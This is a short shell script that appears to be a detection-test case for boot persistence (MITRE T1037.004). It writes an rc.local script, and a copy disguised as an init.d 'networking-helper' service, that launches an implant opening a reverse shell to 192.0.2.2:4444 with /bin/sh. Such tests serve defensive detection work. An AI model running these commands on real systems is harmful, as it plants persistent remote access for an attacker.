# category: persistence
# technique: T1037.004
# art: no
# expect: system-service-modified
# desc: an rc.local boot script and an init.d script start an implant at boot
printf '#!/bin/sh\n/usr/local/bin/exr-net connect 192.0.2.2 4444 -e /bin/sh &\n' > /etc/rc.local
chmod +x /etc/rc.local
mkdir -p /etc/init.d
cp /etc/rc.local /etc/init.d/networking-helper
